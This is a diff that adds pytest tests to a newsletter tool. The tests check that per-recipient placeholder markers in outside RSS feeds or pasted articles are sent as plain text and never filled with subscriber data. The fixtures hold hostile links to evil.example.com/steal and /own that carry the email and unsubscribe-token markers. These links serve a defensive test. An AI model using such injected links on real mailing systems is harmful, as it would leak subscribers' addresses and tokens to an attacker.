@@ -7,18 +7,29 @@ misbehave for chosen recipients; runs are a real cron's worth of
 
 from __future__ import annotations
 
-from datetime import datetime, timedelta
+import contextlib
+import re
+import sqlite3
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
 from zoneinfo import ZoneInfo
 
 import pytest
 from conftest import SiteFactory
+from pytest_httpserver import HTTPServer
 from smtp_relay import ARTICLES, WEEK, Relay, relay, site_config, write_subscribers
 
 import syndicate
+from syndicate.config import load_config
+from syndicate.model import Source
+from syndicate.newsletter import placeholders
 from syndicate.newsletter.send import SendReport, send_newsletter
 from syndicate.newsletter.subscribers import import_subscribers
+from syndicate.newsletter.unsubscribe import TokenSigner
+from syndicate.sources import fetch_sources
+from syndicate.sources.opml import render_opml
+from syndicate.store import Store
 from syndicate.store.ledger import DeliveryStatus
 
 __all__ = ["relay"]  # the fixture, imported for pytest
@@ -146,3 +157,103 @@ def test_a_run_killed_with_a_message_in_flight_resends_it_with_the_same_message_
     report = send(site, week=WEEK, now=AFTER_DUE)
     assert report.sent == 2
     assert relay.message_ids("reader1@example.net") == ["<2026-W47.crash@test.example.org>"]
+
+
+# --- finding 3: per-recipient markers live only where our templates put them -------------------------
+
+OLD_MARKERS = ("%%SYN_GREETING%%", "%%SYN_NAME%%", "%%SYN_EMAIL%%", "%%SYN_UNSUBSCRIBE_URL%%")
+GUESSED = ("%%SYN_EMAIL_0123456789abcdef%%", "%%SYN_UNSUBSCRIBE_URL_0123456789abcdef%%")  # the new form, guessed
+EVERY_MARKER = " ".join(OLD_MARKERS + GUESSED)
+
+
+def hostile_feed() -> str:
+    link = "https://evil.example.com/steal?e=%%SYN_EMAIL%%&amp;u=%%SYN_UNSUBSCRIBE_URL%%&amp;n=%%SYN_NAME%%"
+    return (
+        "<?xml version='1.0'?><rss version='2.0'><channel><title>Evil Trade</title>"
+        "<link>https://evil.example.com/</link><description>d</description>"
+        f"<item><title>Exclusive {EVERY_MARKER}</title><link>{link}</link><guid>evil-1</guid>"
+        f"<description>Read {EVERY_MARKER}</description>"
+        "<pubDate>Wed, 18 Nov 2026 10:00:00 GMT</pubDate></item></channel></rss>"
+    )
+
+
+HOSTILE_ARTICLES = {
+    **ARTICLES,
+    "pasted.md": f"""
+        ---
+        title: "Pasted {EVERY_MARKER}"
+        date: 2026-11-19 09:00
+        author: Jane Doe
+        summary: "Summary {EVERY_MARKER}"
+        ---
+        Body {EVERY_MARKER} and [a link](https://evil.example.com/own?e=%%SYN_EMAIL%%).
+        """,
+}
+
+
+def test_markers_in_outside_and_own_content_go_out_as_text_never_as_subscriber_data(
+    make_site: SiteFactory, relay: Relay, httpserver: HTTPServer
+) -> None:
+    httpserver.expect_request("/evil").respond_with_data(hostile_feed(), content_type="application/rss+xml")
+    site = sending_site(make_site, relay, 3, articles=HOSTILE_ARTICLES)
+    (site / "feeds").mkdir()
+    (site / "feeds" / "sources.opml").write_bytes(render_opml([Source(httpserver.url_for("/evil"), "Evil")], "t"))
+    config = load_config(site)
+    with Store(config.database_path) as store:
+        fetched = fetch_sources(config, store, now=datetime(2026, 11, 20, 12, 0, tzinfo=UTC))
+    assert not fetched.failed
+    report = send(site, week=WEEK, now=AFTER_DUE)
+    assert report.sent == 3
+
+    signer = TokenSigner(SECRET.encode())
+    with syndicate.Site.open(site) as opened:
+        ids = {s.email: s.id for s in opened.store.subscribers.all()}
+    for received in relay.received:
+        message = received.message()
+        address, token = received.rcpt, signer.token(ids[received.rcpt], received.rcpt)
+        local = address.split("@")[0]
+        text_part, html_part = (part.get_content() for part in message.iter_parts())
+        for body in (text_part, html_part):
+            # The stories went out, marker text and all, as text.
+            assert "Exclusive %%SYN_GREETING%%" in body and "Pasted %%SYN_GREETING%%" in body
+            for marker in OLD_MARKERS + GUESSED:
+                assert marker in body, marker
+            # Above our footer (the one place the templates name the reader), neither the reader's
+            # address nor their token appears: no story, title, summary or link carries them.
+            stories, _, footer = body.partition("You are receiving this email")
+            assert footer and "evil.example.com/steal" in stories
+            assert local not in stories and token not in stories
+        hrefs = re.findall(r'href="([^"]*)"', html_part)
+        evil = [h for h in hrefs if "evil.example.com/steal" in h]
+        assert evil and all(local not in h and token not in h for h in evil)
+        # Our own template's markers are still filled in: the real unsubscribe link and greeting.
+        assert f"Unsubscribe: https://test.example.org/unsubscribe?token={token}" in text_part
+        assert f"https://test.example.org/unsubscribe?token={token}" in hrefs
+        assert f"because {address} subscribed" in " ".join(text_part.split())
+        assert "Hi Reader," in text_part
+
+
+def test_an_issue_stored_by_an_earlier_run_is_personalised_at_its_own_markers(
+    make_site: SiteFactory, relay: Relay
+) -> None:
+    """A run resuming an issue (another process, other random markers) fills in the same places."""
+    site = sending_site(make_site, relay, 4, articles=HOSTILE_ARTICLES)
+    first = send(site, week=WEEK, now=AFTER_DUE, limit=2)
+    assert first.sent == 2
+    with syndicate.Site.open(site) as opened:
+        stored = opened.store.ledger.rendered(WEEK)
+        assert stored is not None
+        # What another process would have stored: its own random markers.
+        foreign = [m.replace(m.rsplit("_", 1)[1], "feedfacecafebeef%%") for m in placeholders.ALL]
+        for mine, theirs in zip(placeholders.ALL, foreign, strict=True):
+            stored = stored.replace(mine, theirs)
+    with contextlib.closing(sqlite3.connect(load_config(site).database_path)) as db, db:
+        db.execute("UPDATE newsletter_issues SET rendered = ? WHERE week = ?", (stored, WEEK))
+    second = send(site, week=WEEK, now=AFTER_DUE)
+    assert second.sent == 2
+    for received in relay.received:
+        text_part = next(received.message().iter_parts()).get_content()
+        assert "%%SYN_GREETING%%" in text_part  # the pasted article's literal text
+        assert "feedfacecafebeef" not in text_part
+        assert "Unsubscribe: https://test.example.org/unsubscribe?token=" in text_part
+        assert not any(m in text_part for m in placeholders.ALL)
